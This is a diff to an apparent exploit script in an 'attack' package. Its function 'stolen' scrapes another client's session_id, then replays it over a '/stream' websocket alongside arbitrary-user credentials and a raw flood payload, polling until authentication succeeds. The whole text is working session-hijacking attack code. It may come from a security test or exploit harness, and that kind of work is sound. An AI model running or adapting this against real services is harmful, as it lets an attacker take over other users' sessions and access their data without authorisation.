@@ -6,14 +6,14 @@ import re
 from time import monotonic, sleep, time
 
 from attack.floods import RAW, SAMPLE
-from attack.line import DEVICE, Line, Order, Report, any_user, auth, joined, text, told
+from attack.line import DEVICE, OPEN_SECONDS, Line, Order, Report, any_user, auth, joined, text, told
 from attack.unread import PROBE
 
 RATE_HZ, N_A_CHUNK = 256, 8
 JUMPS_S = (86_390, 3_590, 59)  # ahead: the first that is taken
 FAR = (1 << 53) - 2  # the last position
 RETRY_SECONDS = 0.05
-LET_IN_SECONDS = 0.5  # whoever is not refused by then is in
+LOOK_SECONDS = 0.01
 SESSION = re.compile(rb'"session_id":"([0-9a-f-]{36})"')
 
 
@@ -60,8 +60,10 @@ def stolen(order: Order) -> Report:
         raise ConnectionError("the neighbour has no session")
     while monotonic() < until_s and not any("open" in report.endings for report in reports):
         with Line(order.port).open_websocket("/stream") as line:
-            line.pour([text(auth(any_user()) | {"session_id": found[1].decode()}), text(RAW)], until_s)
-            line.hold(monotonic() + LET_IN_SECONDS)
+            asking = text(auth(any_user()) | {"session_id": found[1].decode()}) + text(RAW)
+            line.pour([asking], monotonic() + OPEN_SECONDS)
+            while not line.ending and b'"auth_ok"' not in line.said:
+                line.hold(monotonic() + LOOK_SECONDS)
             reports.append(line.report())
         sleep(RETRY_SECONDS)
     return joined(reports)
